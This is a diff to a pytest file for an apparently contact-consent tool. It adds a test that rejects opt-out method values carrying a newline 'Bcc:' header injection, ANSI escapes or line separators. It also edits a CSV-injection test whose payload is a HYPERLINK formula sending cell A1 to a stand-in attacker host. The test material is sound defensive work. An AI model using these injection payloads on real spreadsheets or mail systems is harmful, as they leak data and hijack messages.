@@ -98,6 +98,24 @@ def test_staff_lift_only_an_agent_or_import_opt_out(planned: Workspace) -> None:
     assert status(planned, "thomas.bernard@example.com")["consent"] == "ok"
 
 
+@pytest.mark.parametrize(
+    "method",
+    [
+        pytest.param("phone\nBcc: x", id="lf"),
+        pytest.param("\x1b[31mred\x1b[0m", id="esc"),
+        pytest.param("a\u2028b", id="line-separator"),
+        pytest.param("x" * 41, id="too-long"),
+    ],
+)
+def test_a_method_that_would_break_the_history_or_the_report_is_refused(
+    planned: Workspace, method: str
+) -> None:
+    result = planned.run("consent", "opt-out", "sophie.lefevre@example.fr", "--method", method)
+
+    assert_fails(result, 2, "--method")
+    assert status(planned, "sophie.lefevre@example.fr")["history"] == []
+
+
 def test_reimporting_an_unchanged_file_keeps_what_staff_recorded_since(
     planned: Workspace,
 ) -> None:
@@ -385,7 +403,7 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def test_the_csv_report_neutralises_cells_a_spreadsheet_would_run(planned: Workspace) -> None:
-    hyperlink = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+    hyperlink = '=HYPERLINK("http://e.vil/?"&A1,"x")'
     planned.ok("consent", "opt-out", "=1+2@example.fr", "--method", hyperlink)
     planned.ok("import", "contacts", str(planned.write_contacts(BOUNCED)))
     # Anyone can mail a fake bounce: its diagnostic is theirs to write.
